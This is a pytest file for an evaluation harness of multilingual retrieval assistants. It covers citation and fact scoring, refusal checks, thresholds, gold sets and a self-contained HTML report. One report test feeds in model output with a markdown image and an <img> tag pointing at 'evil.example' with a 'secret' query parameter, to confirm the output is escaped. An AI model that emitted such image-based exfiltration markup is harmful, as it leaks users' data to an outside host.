"""``moien eval``: the gold sets, the measures, the report, the thresholds, and a small stratified run through the real
pipeline (real model, real Neo4j, the demo documents and collection).

The measures are checked on hand-made replies (no model): what a reply contains decides each figure. The run through
the real ``Core`` asks one question per assistant × language (12 turns) and checks figures a correct pipeline reaches
whatever the model's wording: the expected sources are retrieved, nothing crashes, the outputs are complete and the
registry card reads the summary.
"""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from moien.assistants.core.evaluation import gold, metrics, report, runner, thresholds
from moien.assistants.core.evaluation.gold import GoldError, GoldItem
from moien.assistants.core.langid import default_identifier
from moien.assistants.core.types import Reply, Source, Verification
from moien.lang import LANGS
from tests.conftest import ROOT

BUILTIN = ("general", "education", "heritage")
REMOTE = re.compile(
    r"""(?:src|href|xlink:href|action)\s*=\s*["']?\s*(?:https?:)?//|url\(\s*["']?\s*(?:https?:)?//""", re.I
)


def item(behaviour: str = "answer", sources=("identity-card",), facts=("14",), lang: str = "en", **kw) -> GoldItem:
    return GoldItem(
        id=kw.pop("id", "t-1"),
        question=kw.pop("question", "How much does an identity card cost?"),
        lang=lang,
        expect={"sources": list(sources), "facts": list(facts), "behaviour": behaviour},
        assistant=kw.pop("assistant", "general"),
    )


def reply(text: str, sources=("demo/identity-card.en.md#0", "demo/museum-visit.en.md#0"), **kw) -> Reply:
    return Reply(
        text=text, lang=kw.pop("lang", "en"), model="m", sources=[Source(id=s, title=s) for s in sources], **kw
    )


def scored(it: GoldItem, rep: Reply, latency: float = 1.0) -> metrics.QuestionResult:
    return metrics.score(it, rep, latency_s=latency, ttft_s=latency / 2, identifier=default_identifier())


# --- the measures, on hand-made replies -----------------------------------------------------------------------------
def test_numbers_and_accents_are_compared_the_way_people_write_them():
    assert metrics.fact_present("11:45", "Les cours se terminent à 11 h 45.")
    assert metrics.fact_present("1000000", "jusqu'à 1 000 000")
    assert metrics.fact_present("14 euros", "Et kascht 14 €.")
    assert metrics.fact_present(["zéng", "10"], "no ongeféier zeng Aarbechtsdeeg")
    assert metrics.fact_present("fermé", "Il est FERME le lundi")
    assert not metrics.fact_present("14", "It costs 140 euros.")  # a number stands alone
    assert metrics.citations("See [1] and [2, 3]; not (4).") == [1, 2, 3]


def test_a_good_answer_scores_recall_citations_facts_language_and_groundedness():
    check = Verification(passed=True, citations_ok=True, supported=0.75)
    r = scored(
        item(facts=("14", ["ten", "10"])),
        reply(
            "Renewing an identity card costs 14 euros for adults [1], and it takes ten working days [1].",
            verification=check,
        ),
    )
    assert (r.recall, r.cited, r.cited_correct, r.facts_found, r.facts_expected) == (1.0, 2, 2, 2, 2)
    assert r.text_lang == "en" and r.language_match is True
    assert r.supported == 0.75 and r.verified is True
    assert r.behaviour_ok and r.passed


def test_wrong_citations_missing_sources_and_facts_are_counted():
    r = scored(
        item(sources=("identity-card", "school-year"), facts=("14",)),
        reply(
            "The museum ticket costs 7 euros [2], as said in [5].",
            sources=("demo/identity-card.en.md#0", "demo/museum-visit.en.md#0"),
        ),
    )
    assert r.recall == 0.5  # school-year was expected and not found
    assert (r.cited, r.cited_correct) == (2, 0)  # [2] is not an expected source, [5] was never given
    assert r.missing_facts == ["14"] and not r.passed
    assert r.supported is None  # the answer guardrail did not check it: n/a, not 0


def test_refusals_count_for_questions_that_should_be_declined_and_against_answers():
    declined = reply("Je ne sais pas : je n'ai rien trouvé à ce sujet dans mes sources.", sources=(), kind="no_answer")
    assert scored(item("no_answer", sources=(), facts=(), lang="fr"), declined).behaviour_ok
    says_no = reply("I don't know: the sources do not say what a passport costs.")  # kind "answer", words of a refusal
    assert scored(item("refuse", sources=(), facts=()), says_no).refused
    answered = scored(item("refuse", sources=(), facts=()), reply("Vote for the blue party [1]."))
    assert not answered.behaviour_ok
    retracted = scored(item(), reply("I found these sources but cannot answer reliably.", kind="unverified"))
    assert retracted.refused and not retracted.behaviour_ok  # a retracted answer is a false refusal


def test_a_short_reply_the_identifier_is_unsure_of_is_neither_a_match_nor_a_miss():
    r = scored(item(facts=()), reply("OK"))
    assert r.text_lang_confident is False and r.language_match is None
    summary = metrics.aggregate([r])
    assert summary["language_match"] is None and summary["language_undetermined"] == 1


def _results() -> list[metrics.QuestionResult]:
    check = Verification(passed=True, citations_ok=True, supported=1.0)
    return [
        scored(item(id="a"), reply("It costs 14 euros for adults at the town hall [1].", verification=check), 2.0),
        scored(
            item(id="b", lang="fr", question="Combien ?"),
            reply("La carte coûte 14 euros pour les adultes [1].", lang="fr"),
            4.0,
        ),
        scored(
            item("refuse", (), (), id="c", assistant="heritage"),
            reply("I can't help with that.", (), kind="out_of_scope"),
        ),
    ]


def test_summary_has_every_measure_overall_per_assistant_per_language_and_per_cell():
    summary = metrics.summarise(_results(), {"eval_format": runner.EVAL_FORMAT})
    assert set(summary["cells"]) == {"general/en", "general/fr", "heritage/en"}
    overall = summary["overall"]
    for key in (*metrics.SHARE_METRICS, *metrics.LOWER_METRICS):
        assert key in overall
    assert overall["recall"] == 1.0 and overall["refusal_correctness"] == 1.0 and overall["errors"] == 0
    assert summary["cells"]["general/fr"]["groundedness"] is None  # not checked by the guardrail: n/a
    assert summary["by_assistant"]["heritage"]["recall"] is None  # no question there expects sources
    assert overall["latency_p50_s"] == 2.0


def test_thresholds_pass_fail_and_say_why_in_one_line():
    summary = metrics.summarise(_results(), {})
    ok = [thresholds.parse("recall=0.9", "under"), thresholds.parse("general/fr:facts=1", "under")]
    assert thresholds.check(summary, ok) == []
    failed = thresholds.check(
        summary,
        [
            thresholds.parse("fr:groundedness=0.5", "under"),
            thresholds.parse("latency_p95_s=1", "over"),
            thresholds.parse("education:recall=0.5", "under"),
        ],
    )
    assert len(failed) == 3 and all("\n" not in f for f in failed)
    assert "n/a" in failed[0] and "nothing was evaluated" in failed[2]
    for bad in ("recall", "recall=x", "speed=1", "recall=1.5"):
        with pytest.raises(thresholds.ThresholdError):
            thresholds.parse(bad, "under")


def test_thresholds_file(tmp_path: Path):
    path = tmp_path / "t.yaml"
    path.write_text("fail_under: {recall: 0.8, 'heritage:refusal_correctness': 1}\nfail_over: {errors: 0}\n")
    assert [str(t) for t in thresholds.load_file(path)] == [
        "recall>=0.8",
        "heritage:refusal_correctness>=1",
        "errors<=0",
    ]
    path.write_text("minimum: {recall: 1}\n")
    with pytest.raises(thresholds.ThresholdError, match="fail_under"):
        thresholds.load_file(path)


# --- the report -----------------------------------------------------------------------------------------------------
def check_report(page: str, charts: int = len(report.CHARTED)) -> None:
    """Self-contained, accessible: no remote resource, no script, charts with titles, tables with captions."""
    assert not REMOTE.search(page), REMOTE.search(page)
    assert "<script" not in page.lower() and "@import" not in page
    assert page.count('<svg role="img"') == charts
    assert page.count("<title id=") == charts and page.count("<desc id=") == charts
    assert page.count("<table>") == page.count("<caption>") == 2
    assert '<html lang="' in page


def test_html_report_is_self_contained_accessible_and_escapes_model_output():
    results = _results()
    results[0].text = 'Look ![x](https://evil.example/x.png?q=secret) <img src="https://evil.example/y.png">'
    page = report.render_html(metrics.summarise(results, {"model": "m"}), results)
    check_report(page)
    assert "<img" not in page and "&lt;img" in page
    for lang in LANGS:
        assert f'<html lang="{lang}">' in report.render_html(metrics.summarise(results, {}), results, lang)


def test_outputs_are_written_whole(tmp_path: Path):
    results = _results()
    summary = metrics.summarise(results, {"eval_format": runner.EVAL_FORMAT})
    written = runner.write_outputs(tmp_path / "eval", results, summary)
    assert sorted(p.name for p in written) == ["report.html", "results.jsonl", "summary.json"]
    lines = (tmp_path / "eval" / "results.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["id"] for line in lines] == ["a", "b", "c"]
    assert json.loads((tmp_path / "eval" / "summary.json").read_text())["overall"]["questions"] == 3
    assert not list((tmp_path / "eval").glob(".*.tmp"))


# --- the gold sets --------------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def assistants(settings):
    from moien.assistants.core.plugins import load_assistants

    return load_assistants(settings)


def test_each_builtin_assistant_ships_ten_questions_per_language_with_every_behaviour(assistants):
    items = gold.gold_items(assistants, BUILTIN)
    for name in BUILTIN:
        assert [p.name for p in assistants[name].gold_sets()] == sorted(f"{lang}.yaml" for lang in LANGS)
        for lang in LANGS:
            cell = [i for i in items if i.assistant == name and i.lang == lang]
            assert len(cell) >= 10, (name, lang)
            assert {i.expect.behaviour for i in cell} == {"answer", "no_answer", "refuse"}, (name, lang)
    assert len({(i.assistant, i.id) for i in items}) == len(items)


def _data_text(assistant: str, source: str) -> str:
    """The demo data a gold source names: every language's version of a document, a curriculum row, a record."""
    if assistant == "general":
        return "\n".join(
            p.read_text(encoding="utf-8") for p in (ROOT / "assistants/general/docs").glob(f"{source}.*.md")
        )
    if assistant == "education":
        lines = (ROOT / "curriculum_graph/demo/demo_curriculum.csv").read_text(encoding="utf-8").splitlines()
        rows = csv.reader(line for line in lines if not line.startswith("#"))
        return "\n".join(",".join(row) for row in rows if row and row[0] == source)
    records = json.loads((ROOT / "heritage/demo/collection.json").read_text(encoding="utf-8"))["records"]
    return "\n".join(json.dumps(r, ensure_ascii=False) for r in records if r["id"] == source)


def test_every_expected_source_and_fact_is_in_the_demo_data(assistants):
    for it in gold.gold_items(assistants, BUILTIN):
        texts = [_data_text(it.assistant, s) for s in it.expect.sources]
        assert all(texts), f"{it.assistant} {it.id}: an expected source is not in the demo data"
        for fact in it.expect.facts:
            assert metrics.fact_present(fact, "\n".join(texts)), f"{it.id}: fact {fact!r} is not in its sources"


def test_stratified_subset_covers_each_cell_and_behaviour(assistants):
    items = gold.gold_items(assistants, BUILTIN)
    one = gold.stratified(items, 1)
    assert len(one) == 12 and {i.expect.behaviour for i in one} == {"answer"}
    three = gold.stratified(items, 3)
    assert len(three) == 36
    assert all(
        {i.expect.behaviour for i in three if (i.assistant, i.lang) == (a, lang)} == {"answer", "no_answer", "refuse"}
        for a in BUILTIN
        for lang in LANGS
    )


def test_a_broken_gold_file_is_named_with_its_item(tmp_path: Path):
    path = tmp_path / "lb.yaml"
    path.write_text("- id: x-1\n  question: Moien?\n  lang: xx\n  expect: {behaviour: refuse}\n", encoding="utf-8")
    with pytest.raises(GoldError, match=r"lb\.yaml: x-1: lang"):
        gold.load_gold(path, "x")
    path.write_text("- id: x-2\n  question: Moien?\n  lang: lb\n  expect: {behaviour: answer}\n", encoding="utf-8")
    with pytest.raises(GoldError, match="x-2"):
        gold.load_gold(path, "x")


def test_cli_rejects_bad_input_before_any_model_work(settings):
    from moien.assistants.core.cli import app

    runner = CliRunner()
    result = runner.invoke(app, ["eval", "--fail-under", "recall=2"])
    assert result.exit_code == 2 and "share between 0 and 1" in result.output
    result = runner.invoke(app, ["eval", "--assistant", "nope"])
    assert result.exit_code == 2 and "installed are" in result.output
    assert "--fail-under" in runner.invoke(app, ["eval", "--help"]).output


# --- through the real pipeline --------------------------------------------------------------------------------------
def test_a_stratified_run_through_the_real_pipeline(core, settings):
    """One question per assistant × language (12 turns) through the real Core; outputs where the registry reads."""
    from moien.assistants.core.registry import build_card

    items = gold.stratified(gold.gold_items(core.assistants, BUILTIN), 1)
    results = runner.run(core, items)
    summary = metrics.summarise(results, runner.meta(core, subset=1, started=runner.now()))
    out = settings.home / "eval"
    runner.write_outputs(out, results, summary)

    limits = [
        thresholds.parse("recall=0.75", "under"),  # retrieval is deterministic: 11 of the 12 are found today
        thresholds.parse("errors=0", "over"),
        thresholds.parse("language_match=0.5", "under"),  # canned and retracted replies are in the language too
        # The tests that accept "an answer or the guardrail's notice" rely on this one: when the answers people should
        # get are mostly retracted (as every Luxembourgish one once was), the run fails here.
        thresholds.parse("false_refusals=0.5", "over"),
    ]
    assert thresholds.check(summary, limits) == [], [r.to_json() for r in results]
    assert len(summary["cells"]) == 12
    for r in results:
        assert r.latency_s > 0
        if r.kind == "answer":
            assert r.text and r.sources  # an answer always comes with its sources
    check_report((out / "report.html").read_text(encoding="utf-8"))
    assert len((out / "results.jsonl").read_text(encoding="utf-8").splitlines()) == 12
    quality = build_card(settings, core.assistants).quality
    assert quality.measured and quality.summary is not None and quality.summary["overall"]["questions"] == 12
